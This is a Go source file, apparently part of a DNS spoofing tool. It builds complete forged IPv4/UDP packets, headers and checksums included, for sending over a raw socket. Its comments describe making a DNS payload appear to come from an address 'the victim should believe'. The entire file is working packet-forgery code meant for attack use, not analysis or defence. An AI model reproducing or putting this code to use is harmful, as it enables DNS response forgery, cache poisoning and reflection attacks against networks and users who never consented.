package main

import (
	"encoding/binary"
	"fmt"
	"net"
)

const (
	ipv4HeaderLen = 20
	udpHeaderLen  = 8

	ipProtoUDP = 17
	ipDefTTL   = 64
	// Don't Fragment
	ipFlagDF = 0x4000
)

// SpoofedDatagram is one forged UDP datagram: a DNS payload plus the
// addressing the victim should believe it came from. It is built fresh
// per transmission and owned by the caller that sends it.
type SpoofedDatagram struct {
	SrcAddr net.IP
	DstAddr net.IP
	SrcPort uint16
	DstPort uint16
	Payload []byte
}

// Marshal assembles the complete IPv4 packet: IP header, UDP header and
// payload, with both checksums filled in. The result is suitable for a
// raw socket opened with IP_HDRINCL.
func (d *SpoofedDatagram) Marshal() ([]byte, error) {
	src := d.SrcAddr.To4()
	dst := d.DstAddr.To4()
	if src == nil {
		return nil, fmt.Errorf("%w: source %s is not IPv4", ErrInvalidAddress, d.SrcAddr)
	}
	if dst == nil {
		return nil, fmt.Errorf("%w: destination %s is not IPv4", ErrInvalidAddress, d.DstAddr)
	}

	packet := make([]byte, ipv4HeaderLen+udpHeaderLen+len(d.Payload))
	ip := packet[:ipv4HeaderLen]
	udp := packet[ipv4HeaderLen:]

	// IPv4 header
	ip[0] = 0x45 // version 4, IHL 5
	binary.BigEndian.PutUint16(ip[2:4], uint16(len(packet)))
	binary.BigEndian.PutUint16(ip[6:8], ipFlagDF)
	ip[8] = ipDefTTL
	ip[9] = ipProtoUDP
	copy(ip[12:16], src)
	copy(ip[16:20], dst)
	binary.BigEndian.PutUint16(ip[10:12], foldChecksum(sumWords(0, ip)))

	// UDP header
	binary.BigEndian.PutUint16(udp[0:2], d.SrcPort)
	binary.BigEndian.PutUint16(udp[2:4], d.DstPort)
	binary.BigEndian.PutUint16(udp[4:6], uint16(len(udp)))
	copy(udp[udpHeaderLen:], d.Payload)
	binary.BigEndian.PutUint16(udp[6:8], udpChecksum(udp, src, dst))

	return packet, nil
}

// sumWords accumulates 16-bit big-endian words into a running
// one's-complement sum. Odd-length input is padded with a zero byte for
// the calculation only.
func sumWords(sum uint32, b []byte) uint32 {
	for i := 0; i+1 < len(b); i += 2 {
		sum += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		sum += uint32(b[len(b)-1]) << 8
	}
	return sum
}

func foldChecksum(sum uint32) uint16 {
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	return ^uint16(sum)
}

// udpChecksum computes the UDP checksum over the IPv4 pseudo-header plus
// the UDP header and payload, per RFC 768. A computed value of zero is
// transmitted as 0xffff since zero on the wire means "no checksum".
func udpChecksum(udp []byte, src, dst net.IP) uint16 {
	var pseudo [12]byte
	copy(pseudo[0:4], src)
	copy(pseudo[4:8], dst)
	pseudo[9] = ipProtoUDP
	binary.BigEndian.PutUint16(pseudo[10:12], uint16(len(udp)))

	sum := foldChecksum(sumWords(sumWords(0, pseudo[:]), udp))
	if sum == 0 {
		return 0xffff
	}
	return sum
}
